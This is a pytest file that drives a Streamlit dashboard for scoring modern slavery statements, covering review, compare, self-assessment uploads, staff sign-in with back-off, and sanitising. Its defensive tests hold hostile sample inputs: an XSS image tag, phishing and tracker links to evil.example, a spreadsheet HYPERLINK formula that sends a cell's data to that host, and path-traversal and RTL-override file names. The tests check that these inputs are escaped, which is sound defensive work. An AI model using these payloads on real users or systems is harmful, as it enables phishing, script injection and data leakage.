"""Every dashboard page through Streamlit's AppTest: overview, review (a decision stored and shown),
compare, self-assessment (an upload scored, not stored unless shared, then queued for staff), shared
statements, the staff sign-in with its back-off and sign-out, app modes, and what a hostile PDF or
uploader can put on a staff member's screen or in a spreadsheet."""

from __future__ import annotations

import json
import re
import time

import pytest
import tomllib
from streamlit.testing.v1 import AppTest
from ui import auth, guard, upload

from app_support import app, database_with, finding, ok, open_finding, opened, sign_in
from conftest import PASSWORD, PDF_SAMPLES, ROOT, SAMPLES, STAFF
from disclosure_check.assess.maturity import floor_median
from disclosure_check.present.export import result_to_dict
from disclosure_check.rubric import load_rubric
from disclosure_check.sanitize import escape_markdown
from disclosure_check.store import accounts
from disclosure_check.store.shares import Shares
from disclosure_check.store.store import Store

pytestmark = pytest.mark.slow  # AppTest sessions, worker processes, clusters or training: `make test` runs them, `make check` does not

DOCS = ("lloyds_banking_group_2018", "barclays_2019", "lv_2018", "ao_world_2018")


@pytest.fixture(scope="module")
def scored(scored_sample, scorer):
    return [scored_sample(name) for name in DOCS] + [
        scorer.score_file(PDF_SAMPLES / "007-imagemagick-images_imagemagick-images.pdf")]


@pytest.fixture
def db(tmp_path, scored, monkeypatch):
    return database_with(monkeypatch, tmp_path / "app.db", scored)







@pytest.fixture
def staff_db(db):
    with Store(db) as store:
        accounts.add_account(store, STAFF, PASSWORD)
    return db


def test_overview_lists_documents_with_levels_and_downloads(db):
    at = app().run()
    assert not at.exception
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["Documents"] == "4" and metrics["Failed to score"] == "1" and metrics["Financial firms"] == "3"
    table = at.dataframe[0].value
    assert set(table["file"]) == {f"{d}.pdf" for d in DOCS}
    assert {"T1_level", "overall_level", "statutory_met"} <= set(table.columns)
    assert not at.get("download_button")  # built on demand: 50,000 rows take seconds
    next(b for b in at.button if b.label == "Prepare Excel download").click().run()
    assert [b.label for b in at.get("download_button")] == ["Download Excel"]
    at.sidebar.multiselect[1].select("bank").run()  # financial sub-sector filter
    assert set(at.dataframe[0].value["subsector"]) == {"bank"}


def test_review_decision_is_stored_and_takes_precedence(db):
    at = app()
    at.run()
    at.switch_page("ui/review.py").run()
    assert not at.exception
    # The queue starts with unreviewed documents; pick Lloyds.
    with Store(db) as store:
        lloyds = next(i["doc_id"] for i in store.reviewed_results(apply=False) if i["document"].endswith("lloyds_banking_group_2018.pdf"))
    assert any("lloyds_banking_group_2018.pdf" in o for o in at.selectbox[0].options)
    at.selectbox[0].select(lloyds).run()
    assert "Local mode" in at.sidebar.caption[0].value  # no accounts: the OS user, labelled as such
    open_finding(at, "elements", "consultation")
    reject = next(b for b in at.button if b.key == f"no-{lloyds[:12]}-element-consultation")
    reject.click().run()
    assert not at.exception
    with Store(db) as store:
        [decision] = store.decisions()
        assert (decision.kind, decision.target_id, decision.decision) == (
            "element", "consultation", "reject")
        assert decision.reviewer.endswith(" (local, no sign-in)")
        item = next(i for i in store.reviewed_results() if i["document"].endswith("lloyds_banking_group_2018.pdf"))
        assert item["reviewed"] and item["elements"]["consultation"]["present"] is False
    assert any(c.value.replace("\\", "").startswith("Reviewed: reject by") for c in at.caption)
    assert finding(at).value == "consultation"  # the place is kept


def test_evidence_sentences_are_confirmed_or_rejected_one_by_one(db):
    at = app()
    at.run()
    at.switch_page("ui/review.py").run()
    with Store(db) as store:
        lloyds = next(i for i in store.reviewed_results(apply=False) if i["document"].endswith("lloyds_banking_group_2018.pdf"))
    at.selectbox[0].select(lloyds["doc_id"]).run()
    open_finding(at, "elements", "approval")
    quote = lloyds["elements"]["approval"]["evidence"][0]
    next(b for b in at.button if b.key == f"e-approval-ev-no-{quote['sentence_index']}").click().run()
    ok(at)
    with Store(db) as store:
        [decision] = store.decisions()
    assert (decision.kind, decision.decision, decision.text) == ("evidence", "reject", quote["text"])
    assert decision.target_id.startswith(f"approval:{quote['sentence_index']}:")
    # The decision shows: the sentence is listed as rejected, its ✗ marked.
    assert next(b for b in at.button if b.key == f"e-approval-rejected-ev-no-{quote['sentence_index']}"
                ).proto.type == "primary"


def test_level_adjustment_recomputes_theme_and_overall(db):
    rubric = load_rubric()
    top = rubric.levels[-1]

    def theme_level(maturity, theme_id):
        return next(t.level for t in maturity.themes if t.id == theme_id)

    with Store(db) as store:
        [before] = [s for s in store.stored() if s.machine.path.endswith("lv_2018.pdf")]
        machine = before.machine.maturity
        # a criterion whose raise to the top moves its theme, so a theme left as the machine had it fails
        raised = next(c for c in machine.criteria if c.applies and c.level < top and floor_median(
            [top if x.id == c.id else x.level for x in machine.criteria if x.theme == c.theme and x.applies])
            > theme_level(machine, c.theme))
        store.add_review(before.doc_id, "criterion", raised.id, "set_level", reviewer="R",
                         previous_value=str(raised.level), level=top)
        [after] = store.stored(doc_id=before.doc_id)
        with pytest.raises(Exception, match="audit trail"):
            store.conn.execute("DELETE FROM reviews")
    reviewed = after.result.maturity
    levels = {c.id: c.level for c in reviewed.criteria}
    assert levels[raised.id] == top and after.machine.maturity == machine
    theme = next(t for t in rubric.themes if raised.id in t.criteria)
    expected_theme = floor_median([levels[c.id] for c in reviewed.criteria if c.theme == theme.id and c.applies])
    assert theme_level(reviewed, theme.id) == expected_theme > theme_level(machine, theme.id)  # the theme follows ...
    assert reviewed.overall == floor_median([t.level for t in reviewed.themes if t.level is not None])  # ... and overall
    assert not any(g.criterion == raised.id for g in reviewed.gaps)  # no longer a gap
    at = app().run()
    at.sidebar.radio[0].set_value("reviewed").run()
    table = at.dataframe[0].value
    assert list(table["file"]) == ["lv_2018.pdf"]
    assert table["overall_level"].iloc[0] == reviewed.overall  # the overview shows the reviewed overall
    assert table[f"{theme.id}_level"].iloc[0] == expected_theme


def test_compare_shows_years_and_peers(db, scored):
    with Store(db) as store:  # a statement whose name the ranker is not sure of (as Lloyds' was before round 4 of
        # issue 20) is unknown, with a suggestion, so not comparable ...
        store.conn.execute("UPDATE documents SET organisation=NULL, organisation_source=NULL, "
                           "suggestion='Lloyds Banking Group plc' WHERE doc_id=?", (scored[0].doc_id,))
        store.conn.commit()
    at = app()
    at.run()
    at.switch_page("ui/compare.py").run()
    assert not at.exception
    assert "Lloyds Banking Group plc" not in at.selectbox[0].options
    with Store(db) as store:  # ... until a reviewer names it
        store.add_review(scored[0].doc_id, "document", "organisation", "set_value", reviewer="Dana",
                         value="Lloyds Banking Group plc")
    at = app()
    at.run()
    at.switch_page("ui/compare.py").run()
    at.selectbox[0].select("Lloyds Banking Group plc").run()
    assert "peer median (1)" in at.dataframe[1].value.columns  # Barclays is the other bank


def test_self_assessment_scores_an_upload_without_storing_it(db):
    at = app()
    at.run()
    at.switch_page("ui/self_assessment.py").run()
    data = (SAMPLES / "lombard_odier_asset_management.pdf").read_bytes()
    at.file_uploader[0].set_value(("lombard_odier.pdf", data, "application/pdf")).run()
    assert not at.exception
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["Legal requirements met"] == "yes"
    assert any("What to do" in m.value for e in at.expander for m in e.markdown)
    assert [b.label for b in at.get("download_button")] == [
        "Download report (Markdown)", "Download report (HTML)", "Download report (PDF)"]
    with Store(db) as store:
        assert store.table_count("documents") == 5  # nothing added by the upload
    at.checkbox[0].check().run()
    assert any("a copy of the PDF you uploaded and these results" in c.value for c in at.caption)
    next(t for t in at.text_input if t.label == "Contact details (optional)").input(
        "Ana Ruiz, Compliance\n ana@example.org\x07").run()
    next(b for b in at.button if b.label == "Share").click().run()
    assert at.success[-1].value == "Shared. The Commissioner's office will review it. Thank you."
    with Store(db) as store:
        [pending] = Shares(store).all("pending")
        assert pending["file_name"] == "lombard_odier.pdf" and pending["content"] == data
        assert pending["contact"] == "Ana Ruiz, Compliance ana@example.org"  # one plain line
        assert store.table_count("documents") == 5  # waiting for staff, not in staff data


def test_self_assessment_rejects_a_non_pdf(db):
    at = app()
    at.run()
    at.switch_page("ui/self_assessment.py").run()
    at.file_uploader[0].set_value(("fake.pdf", b"hello, not a pdf", "application/pdf")).run()
    assert "not a PDF" in at.error[0].value


def test_staff_sign_in_with_a_unicode_password_sets_a_cookie_and_signs_out(staff_db):
    at = app().run()
    assert at.title[0].value == "Staff sign-in" and not at.metric
    sign_in(at, STAFF.lower(), "wrong password")
    assert at.error[0].value == "Wrong name or password." and at.title[0].value == "Staff sign-in"
    sign_in(at)
    assert at.title[0].value == "Overview" and at.metric
    assert at.sidebar.caption[0].value == f"Signed in as **{escape_markdown(STAFF)}**"
    with Store(staff_db) as store:
        [session] = store.conn.execute("SELECT * FROM sessions").fetchall()
        assert accounts.session_account(store, at.session_state["session_token"]) == STAFF
    script = next(h.proto.body for h in at.get("html"))  # the page writes the token into the cookie once
    assert f"{auth.SESSION_COOKIE}={at.session_state['session_token']}; Path=/; Max-Age=43200; SameSite=Strict" \
        in json.loads(script.split("var c=")[1].split(";if(")[0])
    at.switch_page("ui/review.py").run()
    ok(at)
    next(b for b in at.button if b.label == "Sign out").click().run()
    assert at.title[0].value == "Staff sign-in"
    assert "Max-Age=0" in next(h.proto.body for h in at.get("html"))
    with Store(staff_db) as store:
        assert store.table_count("sessions") == 0


def test_review_records_the_signed_in_name(staff_db):
    at = sign_in(app().run())
    at.switch_page("ui/review.py").run()
    ok(at)
    assert not [t for t in at.text_input if "name" in (t.label or "").lower()]  # nobody types a name
    doc = at.selectbox[0].value
    open_finding(at, "elements", "consultation")
    next(b for b in at.button if b.key == f"no-{doc[:12]}-element-consultation").click().run()
    with Store(staff_db) as store:
        assert [d.reviewer for d in store.decisions()] == [STAFF]


def test_repeated_failures_make_everyone_wait_across_sessions(staff_db):
    sign_in(app().run(), STAFF, "wrong")
    with Store(staff_db) as store:
        key = "account:" + accounts.account_key(STAFF)
        assert accounts.Accounts(store).failures(key)[0] == 1
        for _ in range(9):  # as if guessed from other browsers just now
            accounts.Accounts(store).record_failure(key, time.time(), forget_after=3600)
    refused = sign_in(app().run())  # the right password, in a new session
    assert refused.title[0].value == "Staff sign-in"
    wait = re.fullmatch(r"Too many failed sign-ins\. Try again in (\d+) seconds\.", refused.error[0].value)
    assert wait and int(wait[1]) > 30  # ten failures: 2 s doubled five times
    with Store(staff_db) as store:
        assert accounts.Accounts(store).failures(key)[0] == 10 and store.table_count("sessions") == 0


def test_no_accounts_means_no_staff_pages_for_remote_browsers(db, monkeypatch):
    monkeypatch.setattr(auth, "local_client", lambda: False)
    monkeypatch.setenv("DISCLOSURE_CHECK_STAFF_PASSWORD", "s3cret")  # the old shared password opens nothing
    at = app().run()
    assert at.title[0].value == "Staff sign-in" and not at.metric and not at.text_input
    assert "disclosure-check staff add NAME" in at.warning[0].value


@pytest.mark.parametrize("mode", ["public", "Public", " PUBLIC "])
def test_public_mode_serves_only_self_assessment(staff_db, monkeypatch, mode):
    monkeypatch.setenv("DISCLOSURE_CHECK_APP_MODE", mode)
    at = opened()
    assert at.title[0].value == "Check your modern slavery statement"
    with pytest.raises(Exception, match="review.py"):
        at.switch_page("ui/review.py").run()
    assert not at.metric and not [t for t in at.title if t.value != "Check your modern slavery statement"]


@pytest.mark.parametrize("mode", ["admin", "staff,public", "публичный"])
def test_an_unknown_app_mode_serves_nothing(db, monkeypatch, mode):
    monkeypatch.setenv("DISCLOSURE_CHECK_APP_MODE", mode)
    at = app().run()
    assert not at.exception and not at.title and not at.metric and not at.file_uploader
    assert "unknown dashboard mode" in at.error[0].value and "'staff'" in at.error[0].value


PAYLOAD = ("![tracker](https://evil.example/p.png) [Re-enter your staff password](https://evil.example/login) "
           "<img src=x onerror=alert(1)> :red[**urgent**] # heading")


UNESCAPED = re.compile(r"(?<!\\)(\]\(|<img|:red\[)")  # a link or image, an HTML tag, a colour directive


def rendered(at: AppTest) -> list[str]:
    return ([m.value for m in at.markdown] + [c.value for c in at.caption] + [w.value for w in at.warning]
            + [e.label for e in at.expander] + [i.value for i in at.info] + [e.value for e in at.error]
            + [s.value for s in at.success] + [m.label for m in at.metric])


def test_markdown_and_html_from_a_pdf_or_a_name_render_as_text(db):
    with Store(db) as store:
        accounts.add_account(store, "Eve ![x](https://evil.example/n.png)", PASSWORD)
        row = store.conn.execute("SELECT r.id, r.result_json, r.doc_id FROM results r JOIN documents d USING (doc_id) "
                                 "WHERE d.file_name='lloyds_banking_group_2018.pdf'").fetchone()
        item = json.loads(row["result_json"])
        criterion = next(c for c in item["criteria"] if c["applies"] and c["evidence"])
        criterion["flags"] = [PAYLOAD]
        criterion["evidence"][0]["text"] = PAYLOAD
        element_id, element = next((k, e) for k, e in item["elements"].items() if e["evidence"])
        element["evidence"][0]["text"] = PAYLOAD
        store.conn.execute("UPDATE results SET result_json=?, scored_at='2099-01-01' WHERE id=?",
                           (json.dumps(item), row["id"]))
        store.conn.execute("UPDATE documents SET organisation=? WHERE doc_id=?", (PAYLOAD, row["doc_id"]))
        store.conn.commit()
    at = sign_in(app().run(), "Eve ![x](https://evil.example/n.png)", PASSWORD)
    assert at.title[0].value == "Overview"
    at.switch_page("ui/review.py").run()
    at.selectbox[0].select(row["doc_id"]).run()
    open_finding(at, "criteria", criterion["id"])
    ok(at)
    texts = rendered(at) + [c.value for c in at.sidebar.caption]
    assert f"> {escape_markdown(PAYLOAD)}" in texts  # the quote, shown literally
    assert escape_markdown(PAYLOAD) in [w.value for w in at.warning]  # the flag
    open_finding(at, "elements", element_id)
    texts += rendered(at)
    assert f"> {escape_markdown(PAYLOAD)}" in rendered(at)  # the element's quote too
    assert f"Signed in as **{escape_markdown('Eve ![x](https://evil.example/n.png)')}**" in texts
    for text in texts:
        assert not UNESCAPED.search(text), text
    at.switch_page("ui/compare.py").run()
    ok(at)
    for text in rendered(at):
        assert not UNESCAPED.search(text), text


def test_spreadsheet_downloads_carry_no_live_formulas(db):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Barclays")'
    with Store(db) as store:
        store.conn.execute("UPDATE documents SET organisation=? WHERE file_name='barclays_2019.pdf'", (formula,))
        # as the ranker leaves a name it is not sure of (LV='s is named since round 4 of issue 20)
        store.conn.execute("UPDATE documents SET organisation=NULL, organisation_source=NULL, suggestion='LV=' "
                           "WHERE file_name='lv_2018.pdf'")
        store.conn.commit()
    at = opened()
    table = at.dataframe[0].value
    assert formula in set(table["organisation"]) and "origin" in table.columns  # shown as text on screen
    from disclosure_check.present.export import spreadsheet_safe

    safe = spreadsheet_safe(table)
    # an organisation the text does not name clearly is shown as unknown, with the ranker's suggestion
    assert "'" + formula in set(safe["organisation"]) and "unknown (suggested: LV=)" in set(
        safe["organisation"])
    assert list(safe["overall_level"]) == list(table["overall_level"])  # numbers untouched
    assert not any(v.startswith(("=", "+", "-", "@")) for col in safe.columns for v in safe[col] if isinstance(v, str))


def test_shares_stay_out_of_staff_data_until_accepted(staff_db, scored_sample):
    fake = scored_sample("bluebay_asset_management_2019")  # shared as if it were Barclays
    with Store(staff_db) as store:
        lv = next(i for i in store.reviewed_results(apply=False) if i["document"].endswith("lv_2018.pdf"))
        lv_before = tuple(store.conn.execute("SELECT * FROM documents WHERE doc_id=?", (lv["doc_id"],)).fetchone())
        payload = result_to_dict(fake)
        fake_id = Shares(store).add({**payload, "document": "barclays_2019.pdf"}, file_name="barclays_2019.pdf",
                                    content=(SAMPLES / "bluebay_asset_management_2019.pdf").read_bytes(),
                                    contact="J. Smith, j.smith@example.org")
        lv_share = Shares(store).add({**lv, "document": "lv_2018.pdf"}, file_name="lv_2018.pdf")
    at = sign_in(app().run())
    assert {m.label: m.value for m in at.metric}["Documents"] == "4"
    at.switch_page("ui/compare.py").run()
    at.selectbox[0].select("Barclays plc").run()  # as the statement names itself
    assert list(at.dataframe[0].value["origin"]) == ["batch"]
    at.switch_page("ui/shares.py").run()
    ok(at)
    assert at.title[0].value == "Shared statements" and "Waiting (2)" in [s.value for s in at.subheader]
    assert any("already scored in a batch" in c.value for c in at.caption)
    # The card names the organisation the statement names (not the file name it was shared under),
    # shows who to contact, a preview of its first page and the PDF to download.
    organisation = fake.identity.organisation
    assert organisation and any(m.value.startswith(f"**{organisation}") for m in at.markdown)
    shown = [m.value.replace("\\", "").replace("\u200b", "") for m in at.markdown]  # as a reader sees it
    assert "Contact: J. Smith, j.smith@example.org" in shown and "Contact: none given." in shown
    assert len(at.image) == 1 and [b.label for b in at.get("download_button")] == ["Download the shared PDF"]
    at.button(key=f"accept-{lv_share}").click().run()
    assert "already scored in a batch" in at.info[0].value
    at.button(key=f"accept-{fake_id}").click().run()
    ok(at)
    with Store(staff_db) as store:
        decided = {s["id"]: (s["status"], s["duplicate"], s["decided_by"]) for s in Shares(store).all()}
        assert decided == {lv_share: ("accepted", 1, STAFF), fake_id: ("accepted", 0, STAFF)}
        assert tuple(store.conn.execute("SELECT * FROM documents WHERE doc_id=?", (lv["doc_id"],)).fetchone()) \
            == lv_before
    at.switch_page("ui/overview.py").run()
    table = at.dataframe[0].value
    assert len(table) == 5 and sorted(table.loc[table["file"] == "barclays_2019.pdf", "origin"]) == [
        "batch", "self-assessment"]
    at.switch_page("ui/review.py").run()
    at.selectbox[0].select(fake.doc_id).run()
    assert any(c.value.startswith("shared by the business \\(self\\-assessment\\)") for c in at.caption)


def test_sharing_is_rate_limited_with_a_clear_message(db):
    with Store(db) as store:
        item = store.reviewed_results(apply=False)[0]
        for n in range(upload.SHARES_PER_HOUR):
            Shares(store).add({**item, "doc_id": f"other-{n}"}, file_name=f"s{n}.pdf", source=f"browser-{n}")
    at = app()
    at.run()
    at.switch_page("ui/self_assessment.py").run()
    data = (SAMPLES / "lv_2018.pdf").read_bytes()
    at.file_uploader[0].set_value(("lv.pdf", data, "application/pdf")).run()
    at.checkbox[0].check().run()
    next(b for b in at.button if b.label == "Share").click().run()
    ok(at)
    assert "a lot of statements right now" in at.warning[0].value
    with Store(db) as store:
        assert store.table_count("shares") == upload.SHARES_PER_HOUR


def test_upload_limit_and_toolbar_settings_match_the_page():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["server"]["maxUploadSize"] == upload.MAX_UPLOAD_MB == 20
    assert config["client"] == {"toolbarMode": "viewer", "showErrorDetails": "none"}
    at = app()
    at.run()
    at.switch_page("ui/self_assessment.py").run()
    assert at.file_uploader[0].label == "Statement (PDF, up to 20 MB)"
    assert at.file_uploader[0].proto.max_upload_size_mb == 20


def test_an_unexpected_error_shows_a_reference_not_a_traceback(caplog):
    def script():
        from ui.guard import run_guarded

        def broken():
            raise KeyError("/srv/secret/path.db")

        run_guarded(broken)

    at = AppTest.from_function(script).run()
    assert not at.exception
    message = at.error[0].value
    assert message.startswith("Something went wrong (reference ") and "secret" not in message
    reference = message.split("reference ")[1].split(")")[0]
    assert any(reference in r.getMessage() and r.exc_info for r in caplog.records)


def test_clients_cannot_clear_the_servers_caches():
    import streamlit as st
    from streamlit.runtime.app_session import AppSession

    calls = []

    @st.cache_data
    def cached(x):
        calls.append(x)
        return x

    cached(1)
    original = AppSession._handle_clear_cache_request
    try:
        guard.disable_cache_clearing()
        AppSession._handle_clear_cache_request(object())  # what a client's "clear_cache" message runs
        cached(1)
        assert calls == [1]
    finally:
        AppSession._handle_clear_cache_request = original


def test_uploaded_file_names_are_made_safe():
    assert upload.upload_file_name("../../etc/passwd") == "passwd.pdf"
    assert upload.upload_file_name("..") == "statement.pdf"
    assert upload.upload_file_name("C:\\Users\\x\\Barclays 2019.PDF") == "Barclays 2019.pdf"
    assert upload.upload_file_name("\u202eevil [x](y).pdf") == "evil _x_(y).pdf"
    assert len(upload.upload_file_name("a" * 500 + ".pdf")) == 120


def test_an_upload_beyond_the_servers_queue_is_asked_to_come_back(db, monkeypatch):
    """Every slot busy and the queue full: the visitor is told so (DC112), nothing is scored, and the
    next visitor is served once a slot is free."""
    import threading

    from disclosure_check.run.slots import Slots

    slots = Slots(1, queue=0)
    monkeypatch.setattr(upload, "upload_slots", lambda: slots)
    holding, release = threading.Event(), threading.Event()

    def other_visitor() -> None:
        with slots.turn():
            holding.set()
            release.wait(60)

    other = threading.Thread(target=other_visitor)
    other.start()
    holding.wait(10)
    try:
        at = app()
        at.run()
        at.switch_page("ui/self_assessment.py").run()
        data = (SAMPLES / "ao_world_2018.pdf").read_bytes()
        at.file_uploader[0].set_value(("ao.pdf", data, "application/pdf")).run()
        ok(at)
        assert any("as many statements as it can right now" in w.value for w in at.warning)
        assert not at.checkbox  # no result, nothing to share
    finally:
        release.set()
        other.join(10)
    at.run()
    ok(at)
    assert not any("as many statements" in w.value for w in at.warning) and at.checkbox
